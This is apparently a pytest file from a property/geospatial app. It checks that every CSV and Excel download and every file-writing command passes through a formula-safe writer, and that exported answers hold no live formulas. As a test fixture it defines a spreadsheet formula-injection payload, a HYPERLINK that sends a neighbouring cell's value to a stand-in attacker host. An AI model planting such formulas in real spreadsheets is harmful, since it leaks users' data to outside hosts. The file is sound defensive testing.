"""Every file that leaves goes through the one formula-safe writer (``geo.cells``), issue 24 finding 4.

The "Answers (Excel)" workbook of the property check called ``DataFrame.to_excel`` itself, so a
provider's cell ``=HYPERLINK("http://evil.example/?x="&B2,...)`` came back as a live formula. Here
every download button in pages/ and ui/ and every command that writes a file is enumerated and
each must be classified: a spreadsheet-readable file (CSV, Excel) made by a function that reaches
a ``geo.cells`` writer, or a format no spreadsheet runs (PDF, Word, PNG, SVG, JSON, GeoJSON,
GeoPackage). A new one fails here until it is classified.
"""
from __future__ import annotations

import argparse
import ast
import importlib
import inspect
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
SAFE_WRITERS = ("safe_csv", "safe_workbook", "safe_frame", "write_safe_row")
NOT_A_SPREADSHEET = "not a spreadsheet"  # PDF, Word, PNG, SVG, JSON, GeoJSON, GeoPackage
ON_SCREEN = NOT_A_SPREADSHEET            # a table printed to read on the terminal (to_string), or JSON
# The illustrative sample holds no text from outside (generated names, numbers as text on purpose in
# its messy rows, for the importer to reject): quoting "-1.95" would change what it tests.
GENERATED = "generated here, no outside text"

# (file, label of the button) -> the function that makes its bytes, or why no spreadsheet runs it.
DOWNLOADS: dict[tuple[str, str], str] = {
    ("pages/check.py", "Answers (CSV)"): "ui.check.results_csv",
    ("pages/check.py", "Answers (Excel)"): "ui.check.results_xlsx",
    ("pages/check.py", "Download {label}"): NOT_A_SPREADSHEET,           # the response as PDF or Word
    ("pages/sites.py", "Download sites (CSV)"): "ui.sites.export_csv",
    ("pages/sites.py", "Download sites (GeoJSON)"): NOT_A_SPREADSHEET,
    ("pages/sites.py", "Download the rejected rows (CSV)"): "geo.sites.importer.rejections_csv",
    ("pages/sites.py", "Download its rejected rows (CSV)"): "geo.sites.importer.rejections_csv",
    ("pages/audit.py", "Download the audit rows (CSV)"): "geo.cells.safe_csv",
    ("ui/site_access.py", "<label>"): NOT_A_SPREADSHEET,                  # traced_download: its callers above
    ("ui/export_panel.py", "Download {kind}"): "geo.exports.export_table",
    ("ui/export_panel.py", "Its sources (JSON)"): NOT_A_SPREADSHEET,
    ("ui/export_panel.py", "Briefing pack (PDF)"): NOT_A_SPREADSHEET,
}
# Commands that write a file or a table to stdout -> the function that makes it (or why none runs it).
COMMANDS: dict[str, str] = {
    "sites export": "geo.sites.export.sites_csv",
    "sites rejections": "geo.cells.safe_csv",
    "sites sample": GENERATED,
    "snapshot": NOT_A_SPREADSHEET,                     # PNG, SVG or PDF
    "briefing": NOT_A_SPREADSHEET,                     # PDF
    "proposals response": NOT_A_SPREADSHEET,           # PDF or Word
    "sites batches": ON_SCREEN,
    "proposals list": ON_SCREEN,
    "audit anchor": NOT_A_SPREADSHEET,                 # the audit chain's head: a line of text, no cells
}
WRITES_HINTS = ("stdout.write", "safe_csv", "to_csv", "write_bytes", "write_text", "to_excel", "write_sample")


def _label(node: ast.expr) -> str:
    if isinstance(node, ast.Constant):
        return str(node.value)
    if isinstance(node, ast.JoinedStr):
        return "".join(str(v.value) if isinstance(v, ast.Constant) else "{" + ast.unparse(v.value) + "}"
                       for v in node.values if isinstance(v, ast.Constant | ast.FormattedValue))
    return "<label>"


def download_calls() -> list[tuple[str, str, int]]:
    """Every ``download_button(...)`` and ``traced_download(...)`` call in pages/ and ui/: (file, label, line)."""
    found = []
    for path in sorted([*(ROOT / "pages").glob("*.py"), *(ROOT / "ui").rglob("*.py")]):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Call):
                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                if name in ("download_button", "traced_download") and node.args:
                    found.append((str(path.relative_to(ROOT)), _label(node.args[0]), node.lineno))
    return found


def _function(dotted: str) -> Callable[..., Any]:
    module, _, name = dotted.rpartition(".")
    return getattr(importlib.import_module(module), name)


def reaches_safe_writer(fn: Callable[..., Any], depth: int = 3) -> bool:
    """Whether ``fn``'s source calls a ``geo.cells`` writer, directly or through the functions it calls."""
    fn = inspect.unwrap(fn)
    source = inspect.getsource(fn)
    if any(f"{w}(" in source for w in SAFE_WRITERS):
        return True
    if depth == 0:
        return False
    tree = ast.parse(source if not source[0].isspace() else "if 1:\n" + source)
    named = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)}  # called, or chosen and then called
    scope = getattr(fn, "__globals__", {})
    return any(inspect.isfunction(scope.get(name)) and scope[name] is not fn
               and reaches_safe_writer(scope[name], depth - 1) for name in named)


def test_every_download_button_is_classified_and_uses_the_safe_writer() -> None:
    calls = download_calls()
    assert len(calls) >= len(DOWNLOADS) - 1, calls  # the scan itself works
    for path, label, line in calls:
        how = DOWNLOADS.get((path, label))
        assert how is not None, (f"{path}:{line} download {label!r} is new: make its bytes with geo.cells "
                                 "(safe_csv / safe_workbook) and add it to DOWNLOADS")
        if how != NOT_A_SPREADSHEET:
            assert reaches_safe_writer(_function(how)), f"{path}:{line} {label!r}: {how} bypasses geo.cells"


def _leaf_commands() -> dict[str, argparse.ArgumentParser]:
    from geo.commands import build_parser

    out: dict[str, argparse.ArgumentParser] = {}

    def walk(parser: argparse.ArgumentParser, prefix: tuple[str, ...]) -> None:
        subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        if not subs:
            out[" ".join(prefix)] = parser
        for action in subs:
            for name, sub in action.choices.items():
                walk(sub, (*prefix, name))
    walk(build_parser(), ())
    return out


def test_every_command_that_writes_a_file_uses_the_safe_writer() -> None:
    for name, parser in _leaf_commands().items():
        func = parser.get_default("func")
        options = {o for a in parser._actions for o in a.option_strings}
        writes = "--out" in options or any(h in inspect.getsource(func) for h in WRITES_HINTS)
        if not writes:
            continue
        how = COMMANDS.get(name)
        assert how is not None, f"`{name}` writes a file: make it with geo.cells and add it to COMMANDS"
        if how not in (NOT_A_SPREADSHEET, GENERATED):
            assert reaches_safe_writer(_function(how)), f"`{name}`: {how} bypasses geo.cells"


def _result():
    from geo.check.evaluate import ListResult
    from ui.check import TABLE_COLUMNS

    answer = {key: 1 for key in TABLE_COLUMNS} | {"reference": HOSTILE, "ward_name": "+SUM(A1:A9)"}
    return ListResult([answer], [{"row": 3, "column": "Address", "reason": f"not a number: {HOSTILE}"},
                                 {"row": 4, "column": HOSTILE, "reason": "unknown"}])


def test_the_check_answers_workbook_holds_no_formula() -> None:
    """Finding 4: "Answers (Excel)" returned the provider's =HYPERLINK as a live formula."""
    from openpyxl import load_workbook

    from ui.check import results_xlsx

    book = load_workbook(io.BytesIO(results_xlsx(_result())))
    assert book.sheetnames == ["Answers", "Rejected rows"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HOSTILE in texts and "'+SUM(A1:A9)" in texts
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("make", ["ui.check.results_csv"])
def test_the_check_answers_csv_holds_no_formula(make: str) -> None:
    text = _function(make)(_result()).decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in text
    assert not [line for line in text.splitlines() for cell in line.split(",") if cell.startswith(("=", "+"))]
